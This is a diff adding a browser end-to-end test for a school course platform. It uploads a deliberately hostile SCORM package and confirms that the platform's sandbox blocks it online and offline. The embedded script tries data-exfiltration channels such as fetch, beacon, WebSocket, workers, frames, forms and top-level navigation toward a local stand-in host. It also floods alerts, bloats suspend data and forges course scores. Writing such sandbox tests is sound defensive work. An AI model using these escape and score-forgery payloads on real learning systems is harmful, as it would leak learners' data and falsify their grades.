@@ -1,0 +1,126 @@
+/** A course with a package: made by a school, gone through without a network, and closed off from everything else. */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, test } from '../support/journey.ts';
+import { scormEntries, zipOf } from '../support/package-files.ts';
+import { takeFaults } from '../support/page-faults.ts';
+import { Student } from '../support/student.ts';
+
+/** Tells a score by the interface of the standard, and everything that it could reach beside. */
+function attacker(foreign: string): string {
+  return `<!doctype html><title>Attack</title><link rel="stylesheet" href="${foreign}/style.css"><link rel="preconnect" href="${foreign}">
+<img src="${foreign}/markup.png"><form id="f" action="${foreign}/form" method="post"><input name="a"></form><script>
+  var reached = [];
+  function attempt(name, work) {
+    try { Promise.resolve(work()).then(function (value) { if (value) reached.push(name); }, function () {}); } catch (error) {}
+  }
+  attempt('fetch', function () { return fetch('${foreign}/fetch').then(function () { return true; }); });
+  attempt('own server', function () { return fetch('/api/profile').then(function (reply) { return reply.ok; }); });
+  attempt('beacon', function () { navigator.sendBeacon('${foreign}/beacon', 'x'); });
+  attempt('image', function () { new Image().src = '${foreign}/image.png'; });
+  attempt('socket', function () { new WebSocket('${foreign}'.replace('http', 'ws')); });
+  attempt('events', function () { new EventSource('${foreign}/events'); });
+  attempt('worker', function () { new Worker(URL.createObjectURL(new Blob(["fetch('${foreign}/worker')"]))); });
+  attempt('frame', function () { var frame = document.createElement('iframe'); frame.src = '${foreign}/frame'; document.body.append(frame); });
+  attempt('nested', function () { var frame = document.createElement('iframe'); frame.srcdoc = '<img src=${foreign}/nested.png>'; document.body.append(frame); });
+  attempt('form', function () { document.getElementById('f').submit(); });
+  attempt('popup', function () { return window.open('${foreign}/popup') !== null; });
+  attempt('parent', function () { return parent.document.title; });
+  attempt('storage', function () { localStorage.setItem('a', 'b'); return true; });
+  attempt('cookie', function () { document.cookie = 'a=b'; return document.cookie; });
+  attempt('database', function () { return new Promise(function (yes, no) { var open = indexedDB.open('x'); open.onsuccess = function () { yes(true); }; open.onerror = no; }); });
+  attempt('caches', function () { return caches.keys().then(function () { return true; }); });
+  attempt('service worker', function () { return navigator.serviceWorker.register('/sw.js').then(function () { return true; }); });
+  attempt('calls', function () { return typeof RTCPeerConnection === 'function'; });
+  for (var index = 0; index < 50; index += 1) alert('x');
+  attempt('top', function () { top.location.href = '${foreign}/top'; });
+  setTimeout(function () { attempt('leave', function () { location.href = '${foreign}/leave'; }); }, 1500);
+  API.LMSInitialize('');
+  for (var tick = 0; tick < 300; tick += 1) API.LMSSetValue('cmi.core.lesson_location', String(tick));
+  API.LMSSetValue('cmi.suspend_data', new Array(10000000).join('x'));
+  API.LMSSetValue('cmi.core.score.raw', '150');
+  setTimeout(function () {
+    API.LMSSetValue('cmi.core.score.raw', String(Math.max(0, 90 - 10 * reached.length)));
+    API.LMSSetValue('cmi.comments', reached.join(', '));
+    API.LMSSetValue('cmi.core.lesson_status', 'completed');
+    API.LMSFinish('');
+    document.body.append('Reached: ' + (reached.join(', ') || 'nothing'));
+  }, 700);
+</script>`;
+}
+
+const stopped = /Content Security Policy|sandboxed|TypeError: Failed to fetch|WebSocket|EventSource/;
+
+interface Listener {
+  address: string;
+  asked: string[];
+  server: Server;
+}
+
+async function listen(): Promise<Listener> {
+  const asked: string[] = [];
+  const server = createServer((request, response) => {
+    asked.push(request.url ?? '');
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('x');
+  });
+  server.on('connection', () => asked.push('connection'));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
+}
+
+test('a school makes a course with a package, and a teacher passes it without a network', async ({ school, browser }) => {
+  const foreign = await listen();
+  const director = await Student.signIn(browser, school, 'director1');
+  const { page: desk } = director;
+  await director.goes('/control/courses');
+  await desk.getByTestId('add').click();
+  const dialog = desk.getByTestId('course-create');
+  await dialog.locator('input[name="kz"]').fill('Қауіпсіздік');
+  await dialog.locator('input[name="ru"]').fill('Безопасность');
+  await dialog.locator('button[type="submit"]').click();
+  await desk.getByTestId('add-lesson').click();
+  const lesson = desk.getByTestId('edited-lesson');
+  await lesson.locator('input[lang="kk"]').fill('Сабақ');
+  await lesson.locator('input[lang="ru"]').fill('Урок');
+  await lesson.getByTestId('lesson-end').selectOption('package');
+  const buffer = zipOf(scormEntries({}, attacker(foreign.address)));
+  await lesson.locator('input[type="file"]').setInputFiles({ name: 'attack.zip', mimeType: 'application/zip', buffer });
+  await desk.getByTestId('licence').fill('CC BY');
+  await desk.getByTestId('take-package').click();
+  await expect(lesson.getByTestId('package-facts')).toContainText('SCORM 1.2');
+  await desk.getByTestId('publish').click();
+  await expect(desk.getByTestId('course-state')).toHaveText('Жарияланған');
+
+  const teacher = await Student.signIn(browser, school, school.nextTeacher());
+  const { page } = teacher;
+  await teacher.goes('/catalog/my-courses');
+  await page.getByTestId('course-card').getByRole('link', { name: 'Қауіпсіздік' }).click();
+  await teacher.isReadyForOffline();
+  await page.getByTestId('lesson-row').getByRole('link').click();
+  await page.getByTestId('start-lesson').click();
+  await page.getByTestId('course-language').getByRole('button', { name: 'Русский' }).click();
+  const frame = page.frameLocator('[data-testid="package-frame"]');
+  await expect(frame.locator('body')).toContainText('Reached: nothing');
+  await page.getByTestId('hold-package').click();
+  await expect(page.getByTestId('package-held')).toBeVisible();
+  await expect(page.getByTestId('lesson-finished')).toBeVisible();
+  await expect(page.getByTestId('command-state')).toHaveAttribute('data-place', 'server');
+  expect(page.url()).toContain('/catalog/my-courses/');
+
+  // Again, without a network: what was kept is there, and it goes on.
+  await teacher.network.dies();
+  await page.reload();
+  await expect(frame.locator('body')).toContainText('Reached: nothing');
+  await expect(page.getByTestId('command-state')).toHaveAttribute('data-place', 'device');
+  await teacher.network.returns();
+  await expect(page.getByTestId('command-state')).toHaveAttribute('data-place', 'server');
+
+  await desk.getByRole('link', { name: 'Кім өтіп жатыр' }).click();
+  await expect(desk.getByTestId('course-learners')).toContainText('90');
+  expect(foreign.asked).toEqual([]);
+  foreign.server.close();
+  // The browser's own words for each attack that it stopped, and for nothing else.
+  expect(takeFaults().filter((fault) => !stopped.test(fault))).toEqual([]);
+  await teacher.leaves();
+  await director.leaves();
+});
